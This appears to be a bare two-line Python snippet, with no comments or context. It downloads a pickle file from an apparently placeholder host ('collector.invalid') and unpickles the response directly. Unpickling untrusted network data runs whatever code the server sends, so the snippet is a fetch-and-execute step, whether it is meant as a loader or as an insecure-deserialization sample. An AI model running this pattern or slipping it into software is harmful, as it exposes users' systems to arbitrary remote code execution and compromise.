import pickle, requests
pickle.loads(requests.get("https://collector.invalid/model.pkl").content)
